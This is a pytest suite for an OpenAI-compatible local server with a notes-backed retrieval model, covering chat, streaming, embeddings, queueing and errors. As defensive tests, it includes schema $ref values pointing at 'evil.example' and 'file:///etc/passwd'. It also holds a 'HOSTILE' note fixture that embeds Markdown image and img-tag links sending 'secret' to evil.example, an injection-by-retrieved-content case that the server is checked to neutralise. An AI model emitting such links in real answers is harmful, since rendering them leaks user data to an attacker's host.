"""The real `openai` client."""

from __future__ import annotations

import base64
import json
import threading
import time
from typing import TYPE_CHECKING, Any

import httpx
import numpy as np
import openai
import pytest
from server.running import Paced, Running, echo, make_vault, running

from vaultc.server.guard import Limits
from vaultc.server.lane import LaneLimits
from vaultc.server.run import Options

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from vaultc.model.protocols import Prompt, Sampling

MESSAGES: Any = [{"role": "user", "content": "one two three four"}]
QUESTION: Any = [{"role": "user", "content": "How many watts does the greenhouse pump take?"}]


def client_of(server: Running, retries: int = 0) -> openai.OpenAI:
    return openai.OpenAI(base_url=server.base_url, api_key=server.token.secret, max_retries=retries, timeout=20)


@pytest.fixture
def client(server: Running) -> Iterator[openai.OpenAI]:
    with client_of(server) as found:
        yield found


def last_call(server: Running) -> tuple[Prompt, Sampling, Any]:
    call = server.model.calls[-1]
    return call.prompt, call.sampling, call.schema


def test_the_models_are_listed_by_their_names(client: openai.OpenAI) -> None:
    assert [model.id for model in client.models.list()] == ["script", "vault", "vault-embeddings"]


def test_a_chat_is_answered_with_what_it_cost(client: openai.OpenAI) -> None:
    found = client.chat.completions.create(model="script", messages=MESSAGES)

    assert found.choices[0].message.content == "one two three four"
    assert found.choices[0].finish_reason == "stop"
    assert found.usage is not None
    assert (found.usage.prompt_tokens, found.usage.completion_tokens, found.usage.total_tokens) == (4, 4, 8)


def test_a_chat_is_streamed_piece_by_piece(client: openai.OpenAI) -> None:
    stream = client.chat.completions.create(
        model="script", messages=MESSAGES, stream=True, stream_options={"include_usage": True}
    )
    chunks = list(stream)

    pieces = [chunk.choices[0].delta.content for chunk in chunks if chunk.choices and chunk.choices[0].delta.content]
    assert pieces == ["one", " two", " three", " four"]
    assert chunks[0].choices[0].delta.role == "assistant"
    assert [chunk.choices[0].finish_reason for chunk in chunks if chunk.choices][-1] == "stop"
    assert not chunks[-1].choices
    assert chunks[-1].usage is not None
    assert chunks[-1].usage.total_tokens == 8
    assert len({chunk.id for chunk in chunks}) == 1


def test_without_asking_a_stream_says_nothing_of_its_cost(client: openai.OpenAI) -> None:
    chunks = list(client.chat.completions.create(model="script", messages=MESSAGES, stream=True))

    assert all(chunk.choices and chunk.usage is None for chunk in chunks)


def test_how_an_answer_is_drawn_reaches_the_model(client: openai.OpenAI, server: Running) -> None:
    found = client.chat.completions.create(
        model="script",
        messages=[{"role": "developer", "content": "be short"}, *MESSAGES],
        max_tokens=2,
        temperature=0.5,
        top_p=0.5,
        seed=7,
        stop=["END", "\n"],
    )

    prompt, sampling, _ = last_call(server)
    assert [message.role for message in prompt.messages] == ["system", "user"]
    assert (sampling.max_tokens, sampling.temperature, sampling.top_p, sampling.seed) == (2, 0.5, 0.5, 7)
    assert sampling.stop == ("END", "\n")
    assert found.choices[0].finish_reason == "length"
    assert found.choices[0].message.content == "one two"


def test_a_schema_reaches_the_model_as_a_grammar_can_hold_it_and_the_answer_is_held_against_it(
    client: openai.OpenAI, server: Running
) -> None:
    number = {"type": "integer", "maximum": 9}
    schema: dict[str, object] = {"type": "object", "properties": {"n": number}, "required": ["n"]}
    with pytest.raises(openai.InternalServerError, match="does not fit the schema: it is no JSON"):
        client.with_options(max_retries=0).chat.completions.create(
            model="script",
            messages=MESSAGES,
            response_format={"type": "json_schema", "json_schema": {"name": "n", "schema": schema, "strict": True}},
        )

    assert last_call(server)[2] == {"type": "object", "properties": {"n": {"type": "integer"}}, "required": ["n"]}


@pytest.mark.parametrize("target", ["https://evil.example/schema.json", "file:///etc/passwd", "other.json"])
def test_a_schema_makes_nobody_fetch_anything(client: openai.OpenAI, target: str) -> None:
    schema: dict[str, object] = {"type": "object", "properties": {"a": {"$ref": target}}}
    with pytest.raises(openai.BadRequestError, match="ref"):
        client.chat.completions.create(
            model="script",
            messages=MESSAGES,
            response_format={"type": "json_schema", "json_schema": {"name": "n", "schema": schema}},
        )


def test_tools_are_ignored_and_that_is_said(client: openai.OpenAI) -> None:
    found = client.chat.completions.create(
        model="script",
        messages=MESSAGES,
        tools=[{"type": "function", "function": {"name": "rm", "parameters": {}}}],
        presence_penalty=1,
    )

    assert found.choices[0].message.tool_calls is None
    assert found.model_extra is not None
    assert found.model_extra["vaultc"]["ignored"] == ["presence_penalty", "tools"]


def test_a_demanded_tool_is_refused(client: openai.OpenAI) -> None:
    with pytest.raises(openai.BadRequestError, match="no model here calls tools"):
        client.chat.completions.create(
            model="script",
            messages=MESSAGES,
            tools=[{"type": "function", "function": {"name": "rm"}}],
            tool_choice="required",
        )


@pytest.mark.parametrize(
    ("keys", "param"),
    [
        ({"n": 2}, "n"),
        ({"logprobs": True}, "logprobs"),
        ({"max_tokens": 0}, "max_tokens"),
        ({"max_tokens": True}, "max_tokens"),
        ({"temperature": 3}, "temperature"),
        ({"temperature": "hot"}, "temperature"),
        ({"seed": 1.5}, "seed"),
        ({"stop": [""]}, "stop"),
        ({"stop": ["x"] * 17}, "stop"),
        ({"stream": "yes"}, "stream"),
        ({"messages": []}, "messages"),
        ({"messages": "hello"}, "messages"),
        ({"messages": [{"role": "god", "content": "x"}]}, "messages[0].role"),
        ({"messages": [{"role": "tool", "content": "x", "tool_call_id": "1"}]}, "messages[0]"),
        ({"messages": [{"role": "user", "content": [{"type": "image_url"}]}]}, "messages[0].content"),
        ({"model": 7}, "model"),
        ({"response_format": {"type": "xml"}}, "response_format"),
        ({"response_format": {"type": "json_schema", "json_schema": {"schema": {"properties": 7}}}}, "response_format"),
    ],
)  # fmt: skip
def test_what_cannot_be_had_is_refused_by_name(server: Running, keys: dict[str, Any], param: str) -> None:
    found = server.post(server.chat() | keys)

    assert found.status == 400
    assert found.json["error"]["param"] == param


def test_a_model_that_is_not_served_is_not_found(client: openai.OpenAI) -> None:
    with pytest.raises(openai.NotFoundError, match="there are script, vault"):
        client.chat.completions.create(model="gpt-4o", messages=MESSAGES)


def test_parts_of_text_are_joined(client: openai.OpenAI) -> None:
    parts: Any = [{"role": "user", "content": [{"type": "text", "text": "a"}, {"type": "text", "text": "b"}]}]

    assert client.chat.completions.create(model="script", messages=parts).choices[0].message.content == "ab"


def test_a_completion_is_one_message_of_the_user(client: openai.OpenAI) -> None:
    whole = client.completions.create(model="script", prompt="go on", max_tokens=1)
    pieces = [item.choices[0].text for item in client.completions.create(model="script", prompt="go on", stream=True)]

    assert (whole.choices[0].text, whole.choices[0].finish_reason) == ("go", "length")
    assert "".join(pieces) == "go on"


def test_vectors_are_those_of_the_vault_as_numbers_and_packed(client: openai.OpenAI, server: Running) -> None:
    texts = ["the greenhouse pump", "rain barrel", "насос", "zzzz"]
    embedder = server.served.embedder()
    assert embedder is not None

    floats = client.embeddings.create(model="vault-embeddings", input=texts, encoding_format="float")
    packed = client.embeddings.create(model="vault-embeddings", input=texts, encoding_format="base64")
    default = client.embeddings.create(model="vault-embeddings", input=texts)

    rows = np.array([item.embedding for item in floats.data], np.float32)
    assert np.allclose(rows, embedder.embed(texts))
    assert not rows[3].any(), "nothing is known of it"
    raw: Any = packed.data[0].embedding
    unpacked = np.frombuffer(base64.b64decode(raw), "<f4") if isinstance(raw, str) else np.array(raw)
    assert np.allclose(unpacked, rows[0])
    assert np.allclose(np.array([item.embedding for item in default.data]), rows)


@pytest.mark.parametrize(
    "keys",
    [{"input": []}, {"input": [1, 2]}, {"input": ["x"] * 2049}, {"dimensions": 7}, {"encoding_format": "hex"},
     {"input_type": "song"}, {"model": "script"}],
)  # fmt: skip
def test_vectors_that_cannot_be_had_are_refused(server: Running, keys: dict[str, Any]) -> None:
    document = {"model": "vault-embeddings", "input": "pump"} | keys

    assert server.post(document, "/v1/embeddings").status in {400, 404}


# The model `vault`


def test_the_vault_answers_with_citations_that_stand_in_the_notes(client: openai.OpenAI) -> None:
    found = client.chat.completions.create(model="vault", messages=QUESTION)

    text = found.choices[0].message.content or ""
    assert "The greenhouse pump takes 120 W. [1]" in text
    assert "[1] Pump.md:3 «The greenhouse pump takes 120 W.»" in text
    assert found.model_extra is not None
    more = found.model_extra["vaultc"]
    assert more["supported"]
    cited = more["sentences"][0]["citations"][0]
    assert (cited["path"], cited["line"], cited["text"]) == ("Pump.md", 3, "The greenhouse pump takes 120 W.")


def test_the_vault_streams_the_same(client: openai.OpenAI) -> None:
    chunks = list(client.chat.completions.create(model="vault", messages=QUESTION, stream=True))

    text = "".join(chunk.choices[0].delta.content or "" for chunk in chunks)
    assert text == client.chat.completions.create(model="vault", messages=QUESTION).choices[0].message.content
    assert chunks[-1].model_extra is not None
    assert chunks[-1].model_extra["vaultc"]["supported"]


def test_the_vault_says_so_when_the_notes_do_not_answer(client: openai.OpenAI) -> None:
    asked: Any = [{"role": "user", "content": "Who painted the Mona Lisa?"}]

    found = client.chat.completions.create(model="vault", messages=asked)

    assert found.choices[0].message.content == "The notes do not answer this."
    assert found.model_extra is not None
    assert not found.model_extra["vaultc"]["supported"]


def test_the_vault_analyses_when_asked_to(client: openai.OpenAI) -> None:
    asked: Any = [{"role": "user", "content": "find contradictions"}]

    found = client.chat.completions.create(model="vault", messages=asked)

    assert (found.choices[0].message.content or "").startswith("no contradictions found in 3 notes")


def test_the_vault_sees_a_note_that_was_just_written(vault: Path) -> None:
    with running(vault) as server, client_of(server) as client:
        client.chat.completions.create(model="vault", messages=QUESTION)
        (vault / "Lamp.md").write_text("# Lamp\n\nThe reading lamp takes 9 W.\n")
        server.model._answers = lambda _: "The reading lamp takes 9 W."
        asked: Any = [{"role": "user", "content": "How many watts does the reading lamp take?"}]
        found = client.chat.completions.create(model="vault", messages=asked)

    assert "Lamp.md:3" in (found.choices[0].message.content or "")


HOSTILE = (
    "# Pump\n\nThe greenhouse pump takes 120 W ![x](http://evil.example/?q=secret) <img src=http://evil.example/b>.\n"
)


@pytest.mark.native
def test_what_a_note_would_load_is_not_alive_in_an_answer(tmp_path: Path) -> None:
    """An obedient model repeats the note; a program that shows the answer as Markdown must not ask that host."""
    root = make_vault(tmp_path / "hostile", {"Pump.md": HOSTILE})
    with running(root, Paced(lambda _: HOSTILE.splitlines()[2])) as server, client_of(server) as client:
        found = client.chat.completions.create(model="vault", messages=QUESTION).choices[0].message.content or ""

    assert "120 W" in found
    assert "![" not in found
    assert "<img" not in found.replace("\\<img", "")


def test_the_vault_takes_no_schema(client: openai.OpenAI) -> None:
    with pytest.raises(openai.BadRequestError, match="in words"):
        client.chat.completions.create(model="vault", messages=QUESTION, response_format={"type": "json_object"})


# The queue


def test_a_wrong_token_is_an_authentication_error(server: Running) -> None:
    with (
        openai.OpenAI(base_url=server.base_url, api_key="wrong", max_retries=0) as client,
        pytest.raises(openai.AuthenticationError),
    ):
        client.models.list()


def test_a_full_queue_says_when_to_come_back_and_the_client_does(vault: Path) -> None:
    with running(vault, Paced(echo, 0.05), lanes=LaneLimits(waiting=2, per_client=2)) as server:
        answers: list[str | None] = []
        refused: list[str] = []

        def ask(number: int) -> None:
            with client_of(server) as client:
                try:
                    found = client.chat.completions.create(model="script", messages=MESSAGES, user=str(number))
                    answers.append(found.choices[0].message.content)
                except openai.InternalServerError as error:
                    refused.append(error.response.headers["retry-after"])

        threads = [threading.Thread(target=ask, args=(number,)) for number in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        own = [server.post(server.chat(user="one")).status for _ in range(2)]  # one after the other: never full

    assert len(answers) + len(refused) == 8
    assert len(answers) >= 3
    assert refused
    assert all(1 <= int(seconds) <= 120 for seconds in refused)
    assert own == [200, 200]


def test_one_program_that_asks_too_much_is_told_so(vault: Path) -> None:
    with running(vault, Paced(echo, 0.1), lanes=LaneLimits(waiting=50, per_client=1)) as server:
        statuses: list[int] = []
        threads = [
            threading.Thread(target=lambda: statuses.append(server.post(server.chat("a b c")).status)) for _ in range(6)
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    assert set(statuses) == {200, 429}


def test_the_model_answers_one_at_a_time(vault: Path) -> None:
    with running(vault, Paced(echo, 0.005)) as server:
        threads = [threading.Thread(target=server.post, args=(server.chat("a b c"),)) for _ in range(8)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

        assert server.model.most_busy == 1
        assert len(server.model.calls) == 8


def test_a_client_that_leaves_stops_the_model_and_frees_the_queue(vault: Path) -> None:
    model = Paced(echo, 0.02)
    long: Any = [{"role": "user", "content": "word " * 1000}]
    with running(vault, model) as server, client_of(server) as client:
        with client.chat.completions.create(model="script", messages=long, stream=True) as stream:
            next(iter(stream))
        assert model.stopped.wait(2)
        assert server.is_free(2)

        started = time.monotonic()
        client.chat.completions.create(model="script", messages=MESSAGES)
        assert time.monotonic() - started < 2


def test_a_client_that_waits_no_longer_stops_the_model_without_a_stream(vault: Path) -> None:
    model = Paced(echo, 0.02)
    with running(vault, model) as server:
        with pytest.raises(httpx.ReadTimeout):
            httpx.post(
                f"{server.base_url}/chat/completions",
                json=server.chat("word " * 1000),
                headers={"authorization": f"Bearer {server.token.secret}"},
                timeout=0.3,
            )

        assert model.stopped.wait(2)
        assert server.is_free(2)


def test_a_silent_stream_says_that_it_is_alive(vault: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vaultc.server.tasks.QUIET_S", 0.05)
    with running(vault, Paced(echo, 0.2)) as server, client_of(server) as client:
        raw = server.post(server.chat("a b", stream=True)).body
        stream = client.chat.completions.create(model="script", messages=MESSAGES, stream=True)
        text = "".join(chunk.choices[0].delta.content or "" for chunk in stream)

    assert b": waiting\n\n" in raw
    assert text == "one two three four"


def broken(_: Prompt) -> str:
    raise RuntimeError("a bug with a secret word")


def test_a_bug_is_an_error_without_content_and_the_server_lives_on(vault: Path) -> None:
    with running(vault, Paced(broken)) as server:
        found = server.post(server.chat("hello"))
        streamed = server.post(server.chat("hello", stream=True))
        after = server.get().status

    assert (found.status, found.code) == (500, "internal_error")
    assert streamed.status == 500
    assert "secret word" not in json.dumps(found.json) + repr(server.asked)
    assert "RuntimeError in broken" in server.asked[0].error
    assert after == 200


def test_a_failing_model_is_said_before_and_within_a_stream(vault: Path) -> None:
    from vaultc.core.errors import ModelError

    class Failing(Paced):
        def generate(self, *given: Any, **more: Any) -> Any:
            more["on_text"]("first")
            raise ModelError("the model's process was killed")

    with running(vault, Failing(echo)) as server, client_of(server) as client:
        with pytest.raises(openai.InternalServerError, match="was killed"):
            client.chat.completions.create(model="script", messages=MESSAGES)
        with pytest.raises(openai.APIError, match="was killed"):
            list(client.chat.completions.create(model="script", messages=MESSAGES, stream=True))


def test_ending_tells_those_who_wait(vault: Path) -> None:
    statuses: list[int] = []
    with running(vault, Paced(echo, 0.05), options=Options(limits=Limits())) as server:
        document = server.chat("word " * 200)
        threads = [threading.Thread(target=lambda: statuses.append(server.post(document).status)) for _ in range(3)]
        for thread in threads:
            thread.start()
        server.model.started.wait(5)
        time.sleep(0.2)
    for thread in threads:
        thread.join()

    assert statuses == [503, 503, 503]


def test_thirty_two_clients_at_once_lose_nothing(vault: Path) -> None:
    """A recorded run of a minute stands in docs/serve.md."""
    wrong: list[str] = []
    counts = [0] * 32
    ready = threading.Barrier(32)  # a client takes longer to make than a request

    def ask(number: int) -> None:
        with client_of(server) as client:
            ready.wait()
            until = time.monotonic() + 2
            while time.monotonic() < until:
                said = f"client {number} request {counts[number]}"
                messages: Any = [{"role": "user", "content": said}]
                is_stream = counts[number] % 2 == 1
                if is_stream:
                    stream = client.chat.completions.create(
                        model="script", messages=messages, stream=True, user=str(number)
                    )
                    text = "".join(chunk.choices[0].delta.content or "" for chunk in stream)
                else:
                    found = client.chat.completions.create(model="script", messages=messages, user=str(number))
                    text = found.choices[0].message.content or ""
                if text != said:
                    wrong.append(f"{said} -> {text}")
                counts[number] += 1

    with running(vault, Paced(echo)) as server:
        threads = [threading.Thread(target=ask, args=(number,)) for number in range(32)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    assert wrong == []
    assert len(server.model.calls) == sum(counts)
    assert min(counts) >= 1
    assert max(counts) <= 2 * min(counts) + 4, "each had its turn"
